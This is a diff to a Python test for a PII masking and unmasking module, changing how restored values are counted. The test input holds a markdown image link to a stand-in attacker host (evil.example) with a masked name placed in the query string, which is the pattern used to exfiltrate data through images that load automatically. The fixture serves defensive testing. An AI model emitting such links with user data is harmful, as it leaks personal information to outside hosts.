@@ -8,7 +8,7 @@ import pytest
 from hypothesis import example, given, settings
 from hypothesis import strategies as st
 
-from rules.masking.session import MaskingSession
+from rules.masking.session import Masked, MaskingSession
 from rules.masking.unmask import Unmasker, unmask
 
 EMAIL, NAME = "joe@example.com", "Zoë O'Hara"
@@ -149,9 +149,11 @@ def test_ordinary_text_is_not_held() -> None:
 def test_what_was_restored_is_counted() -> None:
     session, email, name = make_session()
 
-    unmask(session, f"{email} {email} {name} ![](https://evil.example/?q={name})")
+    restored: dict[Masked, int] = {}
 
-    assert {masked.label: count for masked, count in session.restored.items()} == {"EMAIL": 2, "NAME": 1}
+    unmask(session, f"{email} {email} {name} ![](https://evil.example/?q={name})", restored)
+
+    assert {masked.label: count for masked, count in restored.items()} == {"EMAIL": 2, "NAME": 1}
 
 
 INSIDE = [
